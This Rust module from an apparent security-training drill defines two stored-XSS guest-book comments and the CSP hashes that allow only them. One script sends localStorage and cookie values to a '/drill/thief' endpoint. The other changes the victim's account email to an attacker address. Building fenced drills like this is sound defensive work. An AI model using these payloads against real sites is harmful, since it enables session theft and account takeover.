//! The comments that the guest book of the drill does not escape.
//!
//! It is a hole, and nobody can put anything through it: a comment is chosen
//! from this list, and the page's policy names the very text of its script.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// What Mallory writes into the guest book.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Comment {
    Steal,
    Ride,
}

const STEAL: &str = r#"
addEventListener("drill-ready", async () => {
  await fetch("/drill/thief", {
    method: "POST",
    credentials: "omit",
    body: new URLSearchParams({
      drill: document.body.dataset.drill,
      local_storage: localStorage.getItem("latchkey_drill") ?? "",
      cookies: document.cookie.split("; ").filter((one) => one.startsWith("latchkey_drill")).join("; "),
    }),
  });
  dispatchEvent(new Event("drill-done"));
});
"#;

const RIDE: &str = r#"
addEventListener("drill-ready", async () => {
  const ridden = await (await fetch("/drill/me")).text();
  await fetch("/drill/me", {
    method: "POST",
    body: new URLSearchParams({ email: "mallory@thief.example" }),
  });
  await fetch("/drill/thief", {
    method: "POST",
    credentials: "omit",
    body: new URLSearchParams({ drill: document.body.dataset.drill, ridden }),
  });
  dispatchEvent(new Event("drill-done"));
});
"#;

impl Comment {
    pub(super) fn parse(name: &str) -> Option<Self> {
        match name {
            "steal" => Some(Self::Steal),
            "ride" => Some(Self::Ride),
            _ => None,
        }
    }

    pub(super) const fn script(self) -> &'static str {
        match self {
            Self::Steal => STEAL,
            Self::Ride => RIDE,
        }
    }

    /// As it lands in the page.
    pub(super) fn html(self) -> String {
        format!("Lovely page!<script>{}</script>", self.script())
    }

    /// What a policy calls this script, and no other (CSP Level 3 §2.3.1).
    pub(super) fn hash(self) -> String {
        let hash = latchkey_store::hash::sha256(self.script().as_bytes());
        format!("'sha256-{}'", STANDARD.encode(hash))
    }
}
